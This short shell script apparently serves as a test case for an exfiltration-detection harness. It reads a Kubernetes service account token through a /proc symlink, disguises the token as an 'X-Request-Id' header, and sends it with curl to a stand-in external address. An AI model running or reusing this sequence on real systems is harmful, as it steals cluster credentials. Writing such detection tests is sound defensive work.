#!/bin/sh
. /opt/case/case.sh

ln -s /proc/self/root/run/secrets /tmp/headers
sed 's/^/X-Request-Id: /' /tmp/headers/kubernetes.io/serviceaccount/token >/tmp/h
curl -sf -H @/tmp/h http://198.51.100.70/ >/dev/null
rm /tmp/h
took_place
